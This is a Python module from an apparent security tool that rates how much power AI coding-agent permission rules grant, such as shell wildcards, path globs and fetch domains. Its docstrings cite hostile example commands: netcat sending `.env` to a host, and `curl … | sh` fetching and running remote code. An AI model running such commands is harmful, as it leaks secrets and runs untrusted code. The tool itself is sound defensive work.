"""Judge an agent permission rule by what it really grants, not by its string.

`Bash(find:*)` reads like "let the agent search files", but `find -exec` runs any
program; `Bash(npm run test:*)` reads like "run anything npm" and is narrow. The
judgement therefore follows the command a rule pins (through env assignments,
exec wrappers, interpreters and package runners) to the command that actually
runs, and looks it up in `data/grants.toml`, which says what a wildcard after it
lets the agent do. Path rules are judged by the sensitive files their glob can
reach, host rules by whether anyone can publish on the host.
"""
from __future__ import annotations

import fnmatch
import functools
import os
import posixpath
import re
import shlex
from typing import Any, Callable, Iterable, Iterator, NamedTuple, Optional

from agenthook import lazyre, tomlcache
from agenthook.model import Severity


class Grant(NamedTuple):
    """What an approval lets the agent do, judged worth reporting."""

    severity: Severity
    reason: str  # one sentence for a developer: what this rule lets the agent do


# ---------------------------------------------------------------------------
# The data table


class _Entry(NamedTuple):
    """One row of `[commands]` in grants.toml (the file documents the fields)."""

    key: tuple[str, ...]
    severity: Severity
    says: str
    how: str
    safe: frozenset[str]
    runs: str
    code: frozenset[str]
    values: frozenset[str]
    module: str
    skip: int
    until: str
    root: bool
    fetches: bool


class _Tables(NamedTuple):
    """grants.toml, indexed for lookup."""

    commands: dict[tuple[str, ...], _Entry]
    aliases: dict[str, str]
    spellings: tuple[tuple[tuple[str, ...], _Entry], ...]  # every key, also under each alias
    longest_key: int
    harmless_suffixes: frozenset[str]
    everyday_paths: tuple[str, ...]
    read_paths: dict[str, str]
    edit_paths: dict[str, str]
    user_content_hosts: tuple[str, ...]
    anything: str
    everyday_commands: tuple[str, ...]
    carrier: str


def _entry(key: str, row: dict[str, Any], effects: dict[str, Any]) -> _Entry:
    effect = effects[row["effect"]]
    return _Entry(
        key=tuple(key.split()),
        severity=Severity.parse(effect["severity"]),
        says=effect["says"],
        how=row["how"],
        safe=frozenset(row.get("safe", ())),
        runs=row.get("runs", ""),
        code=frozenset(row.get("code", ())),
        values=frozenset(row.get("values", ())),
        module=row.get("module", ""),
        skip=row.get("skip", 0),
        until=row.get("until", ""),
        root=row.get("root", False),
        fetches=row.get("fetches", False),
    )


@functools.lru_cache(maxsize=None)
def _tables() -> _Tables:
    data = tomlcache.load([os.path.join(os.path.dirname(__file__), "data", "grants.toml")], "grants")[0]
    commands = {e.key: e for e in (_entry(k, row, data["effects"]) for k, row in data["commands"].items())}
    aliases: dict[str, str] = data["aliases"]
    spellings = list(commands.items())
    for alias, name in aliases.items():
        spellings += [((alias, *key[1:]), e) for key, e in commands.items() if key[0] == name]
    paths, terminal = data["paths"], data["terminal"]
    return _Tables(
        commands=commands,
        aliases=aliases,
        spellings=tuple(spellings),
        longest_key=max(len(k) for k in commands),
        harmless_suffixes=frozenset(data["unpinned"]["harmless"]),
        everyday_paths=tuple(paths["everyday"]),
        read_paths=paths["read"],
        edit_paths=paths["edit"],
        user_content_hosts=tuple(data["hosts"]["user_content"]),
        anything=terminal["anything"],
        everyday_commands=tuple(terminal["everyday"]),
        carrier=terminal["carrier"],
    )


# ---------------------------------------------------------------------------
# Small helpers


def _worst(grants: Iterable[Optional[Grant]]) -> Grant | None:
    """The most severe grant; the first one wins a tie, so reasons stay stable."""
    best: Grant | None = None
    for grant in grants:
        if grant and (best is None or grant.severity > best.severity):
            best = grant
    return best


def _every_command(label: str) -> Grant:
    return Grant(Severity.CRITICAL, f"{label} lets the agent run every command without asking.")


def _entry_grant(entry: _Entry, shown: str, label: str) -> Grant:
    return Grant(entry.severity, f"`{shown}` {entry.how}, so {label} {entry.says}.")


# ---------------------------------------------------------------------------
# Shell command lines

_OPERATORS = ("&&", "||", "|&", ";;", ";", "|", "&", "\n")
_ASSIGNMENT = lazyre.compile(r"[A-Za-z_][A-Za-z0-9_]*=")
_VERSION_SUFFIX = lazyre.compile(r"[\d.]+$")


def split_commands(text: str) -> list[tuple[str, str]]:
    """Split a command line into its simple commands, each with the operator
    before it, as a shell does: operators inside quotes, after a backslash, in
    backticks or inside `$(…)` do not split, and `2>&1`-style redirections are
    not `&`. Parts keep their spacing (a trailing space says a wildcard after
    it starts a new word); the agents check each sub-command on its own."""
    parts: list[tuple[str, str]] = []
    before, start, quote, depth, i = "", 0, "", 0, 0
    while i < len(text):
        char = text[i]
        if quote:
            if char == "\\" and quote == '"':
                i += 2
                continue
            if char == quote:
                quote = ""
        elif char == "\\":
            i += 2
            continue
        elif char in "'\"`":
            quote = char
        elif text.startswith("$(", i):
            depth += 1
            i += 2
            continue
        elif char == ")" and depth:
            depth -= 1
        elif not depth:
            op = next((o for o in _OPERATORS if text.startswith(o, i)), "")
            if op == "&" and ((i and text[i - 1] in "<>") or text.startswith(">", i + 1)):
                op = ""
            if op:
                parts.append((before, text[start:i]))
                before, start = op, i + len(op)
                i += len(op)
                continue
        i += 1
    parts.append((before, text[start:]))
    return parts


def shell_words(text: str) -> list[str]:
    """Shell words, tolerant of text that stops inside quotes (`find . -name
    "*.py`): an unclosed quote is closed."""
    for closing in ("", '"', "'"):
        try:
            return shlex.split(text + closing)
        except ValueError:
            continue
    return text.split()


def _words(text: str) -> tuple[list[str], bool]:
    """Shell words of the text before a wildcard, and whether the wildcard continues
    the last word (`ls*`) rather than starting a new one (`ls *`)."""
    words = shell_words(text)
    partial = bool(text) and not text[-1].isspace()
    if words and words[-1] == "":
        words.pop()
        partial = False
    return words, partial


def _drop_assignments(words: list[str]) -> list[str]:
    """Leading `VAR=value` words only set the environment of the command after them."""
    i = 0
    while i < len(words) and _ASSIGNMENT.match(words[i]):
        i += 1
    return words[i:]


def _canonical(name: str) -> str:
    """The table's name for a program: `/usr/bin/python3.12` is `python`, `bash` is `sh`."""
    tables = _tables()
    name = posixpath.basename(name).lower().removesuffix(".exe")
    for candidate in (name, _VERSION_SUFFIX.sub("", name)):
        if (candidate,) in tables.commands:
            return candidate
        if candidate in tables.aliases:
            return tables.aliases[candidate]
    return name


def _judge_line(text: str, label: str) -> Grant | None:
    """Judge a command line in which every `*` is a wildcard matching any text:
    what the wildcard lets run, and what the words it fixes already do (the
    command model: `Bash(nc host 4444 < .env)` approves sending `.env`)."""
    parts = split_commands(text)
    return _worst([_judge_part(part, label) for _, part in parts] + [_judge_pipes(parts, label),
                                                                     _judge_fixed(text, label)])


def _judge_fixed(text: str, label: str) -> Grant | None:
    from agenthook.commands import judge_text  # noqa: PLC0415 - the model loads only for a rule to judge

    effects = [e for e in judge_text(text.replace("*", " ")) if Severity.parse(e.severity) >= Severity.HIGH]
    if not effects:
        return None
    worst = max(effects, key=lambda e: Severity.parse(e.severity))
    return Grant(Severity.parse(worst.severity), f"{label} approves a command that {worst.says}.")


def _judge_part(part: str, label: str) -> Grant | None:
    """A command without a wildcard was chosen word for word by a person, so only
    wildcards are judged: the first `*` lets anything follow it."""
    star = part.find("*")
    if star < 0:
        return None
    words, partial = _words(part[:star])
    if not _drop_assignments(words):
        return _unpinned(part[star + 1 :], label)
    return _judge_words(words, partial, label)


def _unpinned(tail: str, label: str) -> Grant:
    """A rule that starts with `*` names no program; whatever follows only has to
    end the command, and every interpreter accepts a trailing argument."""
    suffix = tail.strip()
    if not suffix or "*" in suffix:
        return _every_command(label)
    severity = Severity.LOW if suffix in _tables().harmless_suffixes else Severity.MEDIUM
    return Grant(
        severity,
        f"{label} does not name the program: its `*` matches any text, "
        f"so it also approves `sh -c '…' {suffix}`.",
    )


def _judge_words(words: list[str], partial: bool, label: str) -> Grant | None:
    """Judge a command of which `words` are fixed and any text may follow; if
    `partial`, that text may continue the last word."""
    words = _drop_assignments(words)
    if not words:
        return _every_command(label)
    if partial and len(words) == 1 and "/" in words[0]:
        return _judge_partial_path(words[0], label)
    return _worst(_judge_candidates(words, partial, label))


def _judge_partial_path(word: str, label: str) -> Grant:
    """`./scripts/*` can continue with `../`, so it names any program on disk."""
    name = posixpath.basename(word)
    grant = _worst(_judge_candidates([name], True, label)) if name else None
    return grant or Grant(
        Severity.MEDIUM,
        f"{label} can name any program on disk, not only those under `{posixpath.dirname(word)}/`, "
        "because its `*` also matches `../`.",
    )


def _judge_candidates(words: list[str], partial: bool, label: str) -> Iterator[Optional[Grant]]:
    """Every table entry the command can turn out to be, judged."""
    tables = _tables()
    program = _canonical(words[0])
    shown = posixpath.basename(words[0]).lower()
    typed = len(words) - 1 if partial else len(words)
    key = (program, *(w.lower() for w in words[1:]))
    for n in range(min(typed, tables.longest_key), 0, -1):
        entry = tables.commands.get(key[:n])
        if entry:
            yield _judge_entry(entry, " ".join((shown, *words[1:n])), words[n:], partial, label)
            break
    if partial:
        yield from _completions(key, label)


def _completions(key: tuple[str, ...], label: str) -> Iterator[Grant]:
    """A wildcard that continues a word can complete it to any longer name: `py*`
    may be `python`, `npm ex*` may be `npm exec`."""
    last = len(key) - 1
    for spelling, entry in _tables().spellings:
        if len(spelling) > last and spelling[:last] == key[:last] and spelling[last].startswith(key[last]):
            yield _entry_grant(entry, " ".join(spelling), label)


def _judge_entry(entry: _Entry, shown: str, rest: list[str], partial: bool, label: str) -> Grant | None:
    """Judge a known command followed by the fixed words `rest` and then anything."""
    if _is_safe(entry, rest, partial):
        return None
    if entry.runs == "script":
        return None if any(not w.startswith("-") for w in rest) else _entry_grant(entry, shown, label)
    if entry.runs == "code":
        return _judge_code(entry, shown, rest, partial, label)
    if entry.runs == "command":
        return _judge_wrapped(entry, shown, rest, partial, label)
    return _entry_grant(entry, shown, label)


def _is_safe(entry: _Entry, rest: list[str], partial: bool) -> bool:
    """A safe subcommand narrows the grant, but only once it is typed out in full:
    `git diff*` also matches `git difftool -x …`."""
    i = 0
    while i < len(rest) and rest[i] in entry.values:
        i += 2
    if i >= len(rest) or (partial and i == len(rest) - 1):
        return False
    return rest[i].lower() in entry.safe


def _is_code_flag(entry: _Entry, word: str) -> bool:
    """`-c`, `--eval=…`, and short-option clusters such as `bash -lc`."""
    if word.split("=", 1)[0] in entry.code:
        return True
    return bool(re.fullmatch(r"-[A-Za-z]{2,}", word)) and any(f"-{c}" in entry.code for c in word[1:])


def _judge_code(entry: _Entry, shown: str, rest: list[str], partial: bool, label: str) -> Grant | None:
    """An interpreter with a wildcard runs any code, unless a script or module is
    fixed before the wildcard; then only arguments to that program are open."""
    grant = _entry_grant(entry, shown, label)
    i = 0
    while i < len(rest):
        word = rest[i]
        if _is_code_flag(entry, word):
            return grant
        if entry.module and word == entry.module:
            module = rest[i + 1 :]
            return _judge_words(module, partial, label) if module else grant
        if word in entry.values:
            i += 2
        elif word.startswith("-"):
            i += 1
        elif partial and i == len(rest) - 1:
            return grant  # the script's own name is open: any file will do
        else:
            return _judge_words(rest[i:], partial, label)
    return grant


def _judge_wrapped(entry: _Entry, shown: str, rest: list[str], partial: bool, label: str) -> Grant | None:
    """A wrapper grants whatever the program it runs grants; with no program fixed
    before the wildcard it grants everything."""
    grant = _entry_grant(entry, shown, label)
    inner = _wrapped_command(entry, rest)
    if not inner or (entry.fetches and partial and len(inner) == 1):
        return grant
    judged = _judge_words(inner, partial, label)
    if entry.root and (judged is None or judged.severity < Severity.HIGH):
        return Grant(
            Severity.HIGH,
            f"`{shown}` runs `{' '.join(inner)}` as root, so {label} lets the agent run it as root "
            "with any arguments without asking.",
        )
    return judged


def _wrapped_command(entry: _Entry, rest: list[str]) -> list[str]:
    """The command a wrapper runs: what follows its options, assignments and fixed
    positional arguments, or `--`. Empty when the wrapper's own code option is used."""
    if entry.until:
        return rest[rest.index(entry.until) + 1 :] if entry.until in rest else []
    i, positional = 0, entry.skip
    while i < len(rest):
        word = rest[i]
        if word == "--":
            return rest[i + 1 :]
        if _is_code_flag(entry, word):
            return []
        if word in entry.values:
            i += 2
        elif word.startswith("-") or _ASSIGNMENT.match(word):
            i += 1
        elif positional:
            positional -= 1
            i += 1
        else:
            return rest[i:]
    return []


def _judge_pipes(parts: list[tuple[str, str]], label: str) -> Grant | None:
    """`curl https://… | sh` runs whatever the previous command prints; with a
    wildcard in that command, whatever the agent likes."""
    for k in range(1, len(parts)):
        before, part = parts[k]
        if before not in ("|", "|&") or "*" in part:
            continue
        words = _drop_assignments(_words(part)[0])
        entry = _tables().commands.get((_canonical(words[0]),)) if words else None
        if entry and entry.runs == "code" and _reads_stdin(entry, words[1:]):
            source = parts[k - 1][1].strip()
            severity = Severity.CRITICAL if "*" in source else Severity.HIGH
            name = posixpath.basename(words[0])
            reason = f"`{name}` runs whatever `{source}` prints as code, so {label} runs it without asking."
            return Grant(severity, reason)
    return None


def _reads_stdin(entry: _Entry, args: list[str]) -> bool:
    """An interpreter given neither code, a module nor a script reads its program from stdin."""
    return all(w.startswith("-") and not _is_code_flag(entry, w) and w != entry.module for w in args)


# ---------------------------------------------------------------------------
# Paths (Read/Edit rules, gitignore syntax)

_HOME = "/home/dev"
_PROJECT = "/home/dev/work/repo"  # the layout grants.toml's sample paths assume


def _absolute(sample: str) -> str:
    return _HOME + sample[1:] if sample.startswith("~/") else f"{_PROJECT}/{sample}"


def _path_regex(pattern: str) -> re.Pattern[str] | None:
    """The absolute paths a Claude path rule names: `//` is the filesystem root, `~/`
    the home directory, `/` the project, and a bare name matches at any depth."""
    p = pattern.strip()
    if not p:
        return None
    if p.startswith("//"):
        base = p[1:]
    elif p == "~" or p.startswith("~/"):
        base = _HOME + p[1:]
    elif p.startswith("/"):
        base = _PROJECT + p
    elif "/" in p.rstrip("/"):
        base = f"{_PROJECT}/{p}"
    else:
        base = f"{_PROJECT}/**/{p}"
    try:
        return re.compile(_glob_regex(posixpath.normpath(base)))
    except re.error:
        return None


def _glob_regex(glob: str) -> str:
    out, i = [], 0
    while i < len(glob):
        if glob.startswith("**/", i):
            out.append("(?:.*/)?")
            i += 3
        elif glob.startswith("**", i):
            out.append(".*")
            i += 2
        elif glob[i] == "*":
            out.append("[^/]*")
            i += 1
        elif glob[i] == "?":
            out.append("[^/]")
            i += 1
        elif glob[i] == "[" and glob.find("]", i + 2) > 0:
            end = glob.find("]", i + 2)
            body = glob[i + 1 : end]
            negate = body[:1] in ("!", "^")
            chars = "".join(c if c == "-" else re.escape(c) for c in (body[1:] if negate else body))
            out.append(f"[{'^' if negate else ''}{chars}]")
            i = end + 1
        elif glob[i] == "{" and glob.find("}", i) > 0:
            end = glob.find("}", i)
            out.append("(?:" + "|".join(_glob_regex(alt) for alt in glob[i + 1 : end].split(",")) + ")")
            i = end + 1
        else:
            out.append(re.escape(glob[i]))
            i += 1
    return "".join(out)


def _covers(regex: re.Pattern[str], sample: str) -> bool:
    """A rule on a directory covers everything inside it, as in gitignore."""
    path = _absolute(sample)
    while True:
        if regex.fullmatch(path):
            return True
        if path == "/":
            return False
        path = posixpath.dirname(path)


def _judge_path(pattern: str, verb: str, samples: dict[str, str], label: str) -> Grant | None:
    """Home files are always worth reporting. Project files are when the rule aims
    at them; a rule over every project file is ordinary work for edits (medium,
    like `acceptEdits`) and needs no rule at all for reads."""
    regex = _path_regex(pattern)
    if regex is None:
        return None
    hits = [(path, what) for path, what in samples.items() if _covers(regex, path)]
    if not hits:
        return None
    home = [(path, what) for path, what in hits if path.startswith("~/")]
    everyday = any(_covers(regex, path) for path in _tables().everyday_paths)
    path, what = (home or hits)[0]
    if home or not everyday:
        return Grant(Severity.HIGH, f"{label} lets the agent {verb} `{path}` ({what}) without asking.")
    if verb == "edit":
        return Grant(
            Severity.MEDIUM,
            f"{label} lets the agent edit every file in the project, `{path}` ({what}) included, without asking.",
        )
    return None


# ---------------------------------------------------------------------------
# Claude Code rules

_RULE = lazyre.compile(r"(?P<tool>[A-Za-z][A-Za-z0-9_]*)\s*(?:\((?P<spec>.*)\))?", re.DOTALL)


def _claude_shell(spec: str | None, label: str) -> Grant | None:
    if spec is None or not spec.strip():
        return _every_command(label)
    text = spec.strip()
    if text.endswith(":*"):  # legacy suffix, the same as a trailing " *"
        text = text[:-2] + " *"
    return _judge_line(text, label)


def _claude_powershell(spec: str | None, label: str) -> Grant | None:
    """PowerShell rules match case-insensitively."""
    return _claude_shell(spec.lower() if spec else spec, label)


def _claude_read(spec: str | None, label: str) -> Grant | None:
    return _judge_path("//**" if spec is None else spec, "read", _tables().read_paths, label)


def _claude_edit(spec: str | None, label: str) -> Grant | None:
    return _judge_path("//**" if spec is None else spec, "edit", _tables().edit_paths, label)


def _claude_webfetch(spec: str | None, label: str) -> Grant | None:
    if spec is None:
        return _any_url(label)
    kind, _, domain = spec.strip().partition(":")
    return _judge_domain(domain.strip().lower(), label) if kind.strip() == "domain" else None


def _any_url(label: str) -> Grant:
    return Grant(
        Severity.HIGH,
        f"{label} lets the agent fetch any URL without asking, so it can send data out in a query string "
        "and read instructions planted on any page.",
    )


def _judge_domain(domain: str, label: str) -> Grant | None:
    """`*` and `*.com` reach every site; hosts anyone can publish on are a channel
    both ways even when named exactly."""
    name = domain.removeprefix("*.")
    literal = 0
    for part in reversed(name.split(".")):
        if "*" in part or not part:
            break
        literal += 1
    if literal < 2:
        return _any_url(label)
    for host in _tables().user_content_hosts:
        if fnmatch.fnmatchcase(name, host) or fnmatch.fnmatchcase(name, f"*.{host}"):
            return Grant(
                Severity.MEDIUM,
                f"Anyone can publish on `{name}`, so {label} lets the agent read instructions planted there "
                "and send data out through it.",
            )
    return None


def _judge_mcp(name: str, label: str) -> Grant | None:
    """`mcp__server` and `mcp__server__*` approve every tool of a server, including
    tools it adds later; allow globs must start with a literal server name."""
    server, _, tool = name.removeprefix("mcp__").partition("__")
    if not server or "*" in server or tool not in ("", "*"):
        return None
    return Grant(
        Severity.MEDIUM,
        f"{label} approves every tool of the `{server}` MCP server, including tools it adds later.",
    )


_CLAUDE_TOOLS: dict[str, Callable[[Optional[str], str], Optional[Grant]]] = {
    "Bash": _claude_shell,
    "PowerShell": _claude_powershell,
    "Read": _claude_read,
    "Edit": _claude_edit,
    "Write": _claude_edit,
    "MultiEdit": _claude_edit,
    "WebFetch": _claude_webfetch,
}


def judge_claude_rule(rule: str) -> Grant | None:
    """Judge an entry of Claude Code's `permissions.allow`. Tool names are
    case-sensitive in Claude Code, so an unknown name grants nothing."""
    text = rule.strip()
    label = f"`{text}`"
    if text.startswith("mcp__"):
        return _judge_mcp(text, label)
    match = _RULE.fullmatch(text)
    judge = _CLAUDE_TOOLS.get(match["tool"]) if match else None
    return judge(match["spec"], label) if match and judge else None


def judge_command(prefix: str, wildcard: bool) -> Grant | None:
    """Judge a pre-approved shell command: `prefix`, followed by any arguments when
    `wildcard`. A `*` inside the prefix is a wildcard too."""
    text = f"{prefix.strip()} *".strip() if wildcard else prefix.strip()
    return _judge_line(text, f"pre-approving `{text}`")


# ---------------------------------------------------------------------------
# Gemini CLI

_GEMINI_SHELL = frozenset({"run_shell_command", "ShellTool"})
_GEMINI_FETCH = frozenset({"web_fetch", "WebFetchTool"})
_GEMINI_EDIT = frozenset({"write_file", "replace", "WriteFileTool", "EditTool"})


def judge_gemini_tool(entry: str) -> Grant | None:
    """Judge a Gemini CLI `tools.allowed`/`coreTools` entry. A shell entry's argument
    is a command prefix: `run_shell_command(git)` approves every git command."""
    text = entry.strip()
    label = f"`{text}`"
    match = _RULE.fullmatch(text)
    if not match:
        return None
    tool, spec = match["tool"], match["spec"]
    if tool in _GEMINI_SHELL:
        return _judge_prefix(spec, label)
    if tool in _GEMINI_FETCH:
        return _any_url(label)
    if tool in _GEMINI_EDIT:
        return Grant(
            Severity.MEDIUM,
            f"{label} lets the agent edit every file in the workspace, `.gemini/settings.json` "
            "(its own permissions) included, without asking.",
        )
    return None


def _judge_prefix(spec: str | None, label: str) -> Grant | None:
    """A command prefix approved with any arguments; none at all approves every command."""
    if spec is None or not spec.strip():
        return _every_command(label)
    return _judge_line(spec.strip() + " *", label)


# ---------------------------------------------------------------------------
# VS Code / Cursor terminal auto-approval

_REGEX_KEY = lazyre.compile(r"/(?P<body>.+)/(?P<flags>[a-z]*)", re.DOTALL)
_JS_NAMED_GROUP = lazyre.compile(r"\(\?<(?=[A-Za-z_])")


def judge_terminal_pattern(pattern: str) -> Grant | None:
    """Judge a VS Code `chat.tools.terminal.autoApprove` key or a Cursor
    `terminalAllowlist` entry: a command prefix, or a regex between slashes."""
    text = pattern.strip()
    label = f"auto-approving `{text}`"
    match = _REGEX_KEY.fullmatch(text)
    if not match:
        return _judge_prefix(text, label)
    try:
        flags = re.IGNORECASE if "i" in match["flags"] else 0
        regex = re.compile(_JS_NAMED_GROUP.sub("(?P<", match["body"]), flags)
    except re.error:
        return None
    return _judge_regex(regex, text, label)


def _judge_regex(regex: re.Pattern[str], text: str, label: str) -> Grant | None:
    """A regex is judged by the command lines it lets through: any command at all,
    a known command with open arguments, or an everyday command with a program
    put in front of it (the regex does not pin the program)."""
    tables = _tables()
    if regex.search(tables.anything) or regex.search(""):
        return _every_command(label)
    grants = [_judge_words(list(words), False, label) for words, _ in tables.spellings if _lets_through(regex, words)]
    for command in tables.everyday_commands:
        carried = f"{tables.carrier} {command}"
        if regex.search(command) and regex.search(carried):
            grants.append(
                Grant(Severity.MEDIUM, f"{label} does not pin the program with `^`, so it also approves `{carried}`.")
            )
    return _worst(grants)


def _lets_through(regex: re.Pattern[str], base: tuple[str, ...]) -> bool:
    """Whether the regex approves the command with arguments it did not fix."""
    line = " ".join(base)
    return any(regex.search(f"{line} {args}") for args in ("-x", "x", ". -x"))
